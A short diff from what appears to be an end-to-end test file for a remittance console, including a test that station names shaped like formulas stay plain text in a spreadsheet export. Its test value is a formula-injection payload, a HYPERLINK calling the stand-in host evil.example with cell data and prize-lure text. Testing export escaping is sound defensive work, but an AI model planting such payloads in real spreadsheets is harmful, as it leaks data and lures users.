@@ -452,6 +452,8 @@ test('the console reloaded without a network opens from its own service worker, 
   await expect.poll(pendingCount).toBe(before - 1);
   expect(await ops('GET', `/v1/remittances/${remittance.remittanceId}`)).toMatchObject({ status: 'CONFIRMED' });
   expect(await page.getByText(/没有网络：/).count()).toBe(0);
+});
+
 test('the ranking export: a station named like a formula, and a county changed to one, are text in the spreadsheet, never live formulas', async () => {
   const name = `=HYPERLINK("http://evil.example/?x="&A1,"点击领奖") ${Date.now().toString(36)}`;
   const station = await ops('POST', '/v1/stations', stationInput(name));
